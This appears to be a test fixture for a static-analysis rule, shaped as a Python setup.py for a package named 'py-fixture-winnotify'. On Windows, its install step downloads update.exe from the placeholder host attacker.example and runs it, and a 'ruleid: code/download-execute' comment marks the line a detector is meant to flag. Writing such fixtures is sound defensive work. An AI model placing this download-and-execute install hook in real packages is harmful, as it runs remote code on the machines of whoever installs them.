import os
import sys
import urllib.request

from setuptools import setup

if sys.platform == 'win32':
    urllib.request.urlretrieve('https://attacker.example/files/update.exe', 'update.exe')
    # ruleid: code/download-execute
    os.startfile('update.exe')

setup(name='py-fixture-winnotify', version='0.1.0', packages=['winnotify'])
